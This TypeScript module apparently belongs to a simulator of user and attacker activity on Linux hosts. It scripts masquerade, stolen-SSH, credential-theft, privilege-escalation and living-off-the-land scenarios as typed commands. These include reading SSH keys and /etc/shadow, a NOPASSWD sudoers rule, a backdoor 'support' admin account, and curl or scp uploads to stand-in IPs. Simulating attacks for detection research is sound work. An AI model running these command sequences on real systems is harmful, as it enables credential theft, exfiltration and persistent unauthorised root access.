import { work } from '../day.ts';
import { logInRemotely, remoteSession } from '../open/remote.ts';
import type { Attack } from './attack.ts';

const HOUR = 3600;

/** Somebody else sits down at the unlocked screen, and works as they are used to. */
const masquerade: Attack = {
  id: 'masquerade',
  name: 'another user at the keyboard',
  mitre: 'T1078.003',
  run({ world, draw, victim, presence, actor }, strength) {
    const others = world.people.filter(({ role }) => role !== victim.role);
    const other = draw.pick(others.length > 0 ? others : world.people);
    const tasks = Object.values(other.tasks);
    const guest = actor({
      time: presence.lunch,
      person: { ...other, name: victim.name, uid: victim.uid, host: victim.host },
    });
    const ends = presence.lunch + (strength === 'loud' ? 1.5 : 0.4) * HOUR;
    while (guest.time < ends) work(world, guest, draw.pick(tasks), ends);
  },
};

/** A stolen key, at night, over SSH. */
const stolenSession: Attack = {
  id: 'stolen-ssh',
  name: 'stolen SSH session at night',
  mitre: 'T1021.004',
  run({ draw, day, actor }, strength) {
    const time = day + draw.between(1.5, 4) * HOUR;
    const session = remoteSession(draw, time + HOUR);
    const thief = actor({ time, session });
    logInRemotely(thief, 'pts/7', '203.0.113.190');
    const look = [
      'w',
      'id',
      'uname -a',
      'ls -la',
      'cat .bash_history',
      'ls .ssh',
      'cat .ssh/known_hosts',
      'ip a',
      'ss -tnp',
    ];
    const more = [
      'find / -perm -4000',
      'ps aux',
      'sudo -l',
      'cat /etc/passwd',
      'ssh 10.20.1.11',
      'tar czf t.tgz Documents',
      'scp t.tgz x:',
    ];
    for (const command of strength === 'loud'
      ? [...look, ...more, 'history -c', 'exit']
      : ['ls', 'cd work', 'git log', 'less notes', 'exit']) {
      thief.wait(strength === 'loud' ? 8 : 50).type(command);
    }
  },
};

/** Keys, password stores and browser profiles are read. */
const credentialFiles: Attack = {
  id: 'credentials',
  name: 'credential files read',
  mitre: 'T1552.001',
  run({ victim, actor }, strength) {
    const thief = actor();
    const home = `/home/${victim.name}`;
    const reads = (path: string, name: string, seconds: number): void => {
      thief.wait(6).type(`${name} ${path}`).read(path, name, `/usr/bin/${name}`, seconds);
    };
    if (strength === 'stealthy') {
      reads(`${home}/.ssh/id_ed25519`, 'less', 150);
      return;
    }
    thief.type('find . -name id_* -o -name *.kdbx');
    for (const file of [
      '.ssh/id_ed25519',
      '.ssh/config',
      '.gnupg/private-keys-v1.d/a.key',
      '.mozilla/firefox/main/key4.db',
    ]) {
      reads(`${home}/${file}`, 'cp', 130);
    }
    thief.wait(5).type('grep -ri password .').wait(5).type('cat .netrc').wait(5).type('tar cz /tmp/k');
    thief.connect('203.0.113.77', 443, 'curl', '/usr/bin/curl', 90);
  },
};

/** From the user's rights to root's. */
const privilegeEscalation: Attack = {
  id: 'escalation',
  name: 'privilege escalation',
  mitre: 'T1548.003',
  run({ victim, actor }, strength) {
    const thief = actor();
    if (strength === 'stealthy') {
      // A password that was seen over the shoulder, and one door left open.
      thief.type('sudo -s').wait(40);
      thief.set('sudoers', {
        source: `/etc/sudoers.d/${victim.name}`,
        header: victim.name,
        rule_details: 'ALL=(ALL) NOPASSWD: ALL',
      });
      return;
    }
    for (const command of [
      'sudo -l',
      'find / -perm -4000',
      'getcap -r /',
      'uname -r',
      'gcc x.c',
      './x',
      'chmod 4755 /tmp/sh',
    ]) {
      thief.wait(7).type(command, command.startsWith('./') ? { path: '/tmp/.x/x', lasts: 30 } : undefined);
    }
    thief.run('sh', { path: '/tmp/.x/sh', lasts: 1200 }, { asRoot: true, parent: thief.shell() });
    for (const command of ['id', 'cat /etc/shadow', 'useradd support', 'usermod support']) thief.wait(9).type(command);
    thief.read('/etc/shadow', 'cat', '/usr/bin/cat', 130);
    thief.set('users', {
      uid: '1099',
      gid: '1099',
      username: 'support',
      directory: '/home/support',
      shell: '/bin/bash',
    });
    thief.set('admins', { uid: '1099', groupname: 'sudo' });
  },
};

/** Only what the system brings is used: nothing foreign lies on the disk. */
const livingOffTheLand: Attack = {
  id: 'off-the-land',
  name: 'living off the land',
  mitre: 'T1105',
  run({ victim, actor }, strength) {
    const thief = actor();
    if (strength === 'stealthy') {
      for (const command of ['curl -s x', 'python3 -c x', 'ls', 'git status']) thief.wait(90).type(command);
      thief.connect('203.0.113.91', 443, 'python3', '/usr/bin/python3', 300);
      return;
    }
    const run = [
      'curl -s x',
      'base64 -d',
      'openssl enc',
      'awk BEGIN',
      'perl -e x',
      'python3 -c x',
      'busybox nc',
      'xxd -r',
      'dd if=x',
    ];
    for (const command of [...run, 'bash -c x', 'systemd-run x', 'crontab -l', 'getent passwd', 'ss -tlnp']) {
      thief.wait(10).type(command);
      if (thief.draw.chance(0.4))
        thief.connect('203.0.113.91', 443, command.split(' ')[0]!, `/usr/bin/${command.split(' ')[0]!}`);
    }
    thief.run('python3', { lasts: 900 }, { parent: thief.shell() });
    thief.read(`/home/${victim.name}/.ssh/config`, 'awk', '/usr/bin/awk', 20);
  },
};

export const accessAttacks = [masquerade, stolenSession, credentialFiles, privilegeEscalation, livingOffTheLand];
